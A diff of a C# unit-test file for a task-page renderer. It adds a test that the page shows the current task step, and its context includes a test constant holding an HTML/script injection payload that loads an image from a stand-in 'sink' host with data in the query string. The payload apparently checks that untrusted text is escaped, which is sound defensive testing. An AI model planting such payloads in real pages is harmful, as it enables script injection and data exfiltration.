@@ -27,6 +27,14 @@ public sealed class TaskPageTests
     }
 
     [Fact]
+    public void A_task_at_work_says_what_it_does()
+    {
+        var page = TaskPage.Of("Make it add.", [new TranscriptEntry.Chosen("openai/big", "openai/big, as you allowed.")], "Read a.py");
+
+        Assert.All(["Make it add.", "At work: Read a.py.", "as you allowed"], text => Assert.Contains(text, page, StringComparison.Ordinal));
+    }
+
+    [Fact]
     public void Case_12_what_models_and_files_say_is_text()
     {
         const string Evil = "<img src=https://sink/?d=CANARY><script>evil()</script>";
